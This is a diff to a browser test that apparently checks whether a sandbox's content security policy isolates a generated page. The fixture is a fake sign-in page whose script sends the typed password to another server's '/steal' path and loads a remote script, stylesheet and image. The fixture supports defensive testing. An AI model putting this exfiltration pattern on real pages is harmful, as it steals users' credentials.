@@ -31,6 +31,12 @@ def artifact(other: str) -> str:
     tries to send what is typed (and to load a kit) from another server."""
     ws = other.replace("http://", "ws://")
     return f"""<!doctype html><html><head><meta charset="utf-8"><title>Sign in</title>
+<script>
+// First in the page: the kit's refusals below are reported before the body's script runs.
+window.results = {{ violations: [] }};
+document.addEventListener("securitypolicyviolation",
+  (event) => results.violations.push(event.effectiveDirective));
+</script>
 <style>#ran {{ color: rgb(1, 2, 3) }}</style>
 <link rel="stylesheet" href="{other}/kit.css">
 <script src="{other}/kit.js"></script>
@@ -40,9 +46,6 @@ def artifact(other: str) -> str:
 <img id="remote" src="{other}/pixel.png" alt="">
 <input id="password" value="hunter2">
 <script>
-window.results = {{ violations: [] }};
-document.addEventListener("securitypolicyviolation",
-  (event) => results.violations.push(event.effectiveDirective));
 document.getElementById("ran").textContent = "scripts run";
 const typed = document.getElementById("password").value;
 fetch("{other}/steal?pw=" + typed).then(() => results.fetch = "sent",
@@ -94,7 +97,12 @@ async def test_an_artifacts_scripts_run_but_it_reaches_no_other_server(
     )
 
     await page.goto(link)
-    await page.wait_for_function("window.results && results.fetch && results.xhr && results.remote")
+    # The violations are reported as events, queued: waited for, on a loaded machine too.
+    await page.wait_for_function(
+        "window.results && results.fetch && results.xhr && results.remote && "
+        "['connect-src', 'img-src', 'script-src-elem', 'style-src-elem']"
+        ".every((d) => results.violations.includes(d))"
+    )
     results = await page.evaluate("window.results")
     # Nothing the artifact asked for left the browser (a request refused only by CORS would
     # still have arrived here, with the password in its address).
